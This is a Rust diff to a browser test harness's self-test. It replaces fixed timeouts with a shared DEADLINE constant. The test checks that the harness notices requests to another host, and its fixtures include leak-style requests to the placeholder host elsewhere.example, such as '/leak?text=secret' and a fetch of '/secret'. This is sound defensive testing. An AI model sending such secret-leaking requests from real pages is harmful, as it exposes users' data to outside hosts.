@@ -1,10 +1,8 @@
 //! The harness itself, on a page of a few lines: what the other tests conclude from its silence must be true.
 
-use std::time::Duration;
-
 use serde_json::{Value, json};
 
-use crate::support::browser::{Browser, Kind, eventually};
+use crate::support::browser::{Browser, DEADLINE, Kind, eventually};
 use crate::support::host::content::Gzip;
 use crate::support::hub::{Hub, SST2, SST2_REVISION};
 use crate::support::server::{Damage, Server};
@@ -52,7 +50,7 @@ async fn sees_what_a_worker_requests_here_and_elsewhere() {
     let browser = Browser::start(&server).await;
     browser.goto(&server.url()).await;
     browser.find("button", "Go").await.click().await.unwrap();
-    eventually(Duration::from_secs(10), async || {
+    eventually(DEADLINE, async || {
         let requests = server.requests();
         let seen = |what: &str| requests.iter().any(|request| request == what);
         let both = seen("GET /data.bin") && seen("GET http://elsewhere.example/leak?text=secret");
@@ -61,7 +59,7 @@ async fn sees_what_a_worker_requests_here_and_elsewhere() {
     .await;
     // Over HTTPS a proxy sees the host only; that is enough to notice.
     browser.run("fetch('https://elsewhere.example/secret').catch(() => {})", vec![]).await;
-    eventually(Duration::from_secs(10), async || {
+    eventually(DEADLINE, async || {
         let requests = server.requests();
         let seen = requests.iter().any(|request| request == "CONNECT elsewhere.example:443");
         if seen { Ok(()) } else { Err(requests) }
